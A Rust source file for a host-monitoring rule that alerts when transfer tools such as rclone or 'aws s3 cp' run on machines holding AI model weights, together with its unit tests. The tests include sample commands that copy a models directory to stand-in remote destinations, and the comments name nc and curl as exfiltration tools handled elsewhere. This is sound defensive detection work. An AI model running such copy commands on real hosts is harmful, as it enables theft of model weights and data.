//! `exfil.tool`: an upload, sync or peer-to-peer tool (`exfil_tools`) ran on a host that
//! holds protected files. `nc`, `curl` and the like are left to `weight.exfiltration`, which
//! judges what they read and sent.
use super::{
    Ctx, Rule, RuleId,
    flows::Flows,
    sink::{AlertSink, AlertSpec},
};
use crate::{
    config::{Severity, rules::basic_settings},
    events::EventKind,
};

pub const ID: RuleId = RuleId::new("exfil.tool");

basic_settings!(Severity::Medium);

#[derive(Default)]
pub(crate) struct State;

impl Rule for State {
    fn on_event(&mut self, ctx: &Ctx<'_>, _flows: &Flows, sink: &mut AlertSink<'_>) {
        let EventKind::ProcExec { filename, argv, .. } = &ctx.ev.event.kind else {
            return;
        };
        if !ctx.weights_present {
            return;
        }
        let exe = ctx.ev.process.exe.as_deref().unwrap_or(filename);
        let name = crate::config::basename(exe);
        let Some(tool) = sink.cfg().exfil_tool_for(name, argv) else {
            return;
        };
        let tool = match &tool.subcommand {
            Some(s) => format!("{} {s}", tool.program),
            None => tool.program.clone(),
        };
        let key = format!("{}:{tool}", ctx.ev.process.pid);
        let summary = format!(
            "transfer tool {tool} run on a host that holds model weights: {}",
            argv.join(" ")
        );
        sink.emit(AlertSpec::about(ctx, ID, key, summary));
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;

    #[test]
    fn by_program_and_subcommand() {
        let mut r = Run::new(cfg(""), MONDAY_10);
        r.exec(0, &proc_(601, "rclone", "/usr/bin/rclone", "rclone copy /models remote:", &[(600, "bash")]));
        r.exec(0, &proc_(602, "aws", "/usr/bin/aws", "aws ec2 describe-instances", &[(600, "bash")]));
        r.exec(0, &proc_(603, "aws", "/usr/bin/aws", "aws s3 cp /models s3://x", &[(600, "bash")]));
        let t = r.of(super::ID);
        assert_eq!(t.len(), 2, "{:#?}", r.alerts);
        assert_eq!(t[0].process.pid, 601);
        assert_eq!(t[1].process.pid, 603);
    }

    #[test]
    fn not_where_there_is_nothing_to_take() {
        let mut r = Run::new(cfg(""), MONDAY_10);
        r.engine.set_weights_present(false);
        r.exec(0, &proc_(601, "rclone", "/usr/bin/rclone", "rclone copy", &[(600, "bash")]));
        assert!(r.of(super::ID).is_empty(), "no weights on this host");
    }
}
